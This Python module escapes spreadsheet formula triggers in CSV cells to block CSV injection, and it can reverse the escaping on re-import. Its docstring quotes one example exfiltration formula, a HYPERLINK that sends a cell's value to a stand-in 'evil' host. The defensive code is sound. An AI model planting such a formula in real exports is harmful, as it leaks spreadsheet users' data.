"""Text cells that a spreadsheet cannot run as formulas, and the way back; pure Python, no Django.

A spreadsheet opening a CSV treats a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula, and
some also after a leading tab or carriage return; a participant's rationale such as
``=HYPERLINK("http://evil/?leak="&A1,"Click")`` would then run in the researcher's spreadsheet. As OWASP
recommends (https://owasp.org/www-community/attacks/CSV_Injection), :func:`formula_safe_cell` puts a
single quote before such a cell, which spreadsheets show as text.

The rule, so that an exported file re-imports to exactly the original text (:func:`formula_escape_removed`):

- export: a text cell that starts with ``= + - @``, tab or carriage return gets a single quote in front;
  so does a cell that starts with a single quote followed by one of those characters or by another
  quote (otherwise the import would take its quote for ours). A plain number written as text (``-1``,
  ``-0.25``, ``+3e5``) is left alone, so it stays a number, and so are numbers themselves;
- import (CSV, TSV, XLSX): a cell that starts with a single quote followed by one of those characters
  (``= + - @``, tab, carriage return or another single quote) loses that first quote; any other cell is
  kept exactly.

So ``'Tis`` round-trips unchanged, ``=1+1`` is exported as ``'=1+1``, and ``'=1+1`` (text that really starts
with a quote) as ``''=1+1``; each imports back to the original.
"""
from __future__ import annotations

import re

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"

_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def formula_safe_cell(value: object) -> object:
    """``value`` as it may be written to a CSV cell: text a spreadsheet would run gets a leading quote.

    Only ``str`` values change (see the module docstring); numbers, ``None`` and every other type are
    returned as they are, and so is text that is a plain number.
    """
    if not isinstance(value, str) or not value:
        return value
    if value.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.fullmatch(value):
        return ESCAPE + value
    if _starts_with_escape(value):
        return ESCAPE + value
    return value


def formula_escape_removed(text: str) -> str:
    """The original text of a cell that :func:`formula_safe_cell` wrote (see the module docstring)."""
    return text[1:] if _starts_with_escape(text) else text


def _starts_with_escape(text: str) -> bool:
    return len(text) >= 2 and text[0] == ESCAPE and text[1] in (*FORMULA_TRIGGERS, ESCAPE)
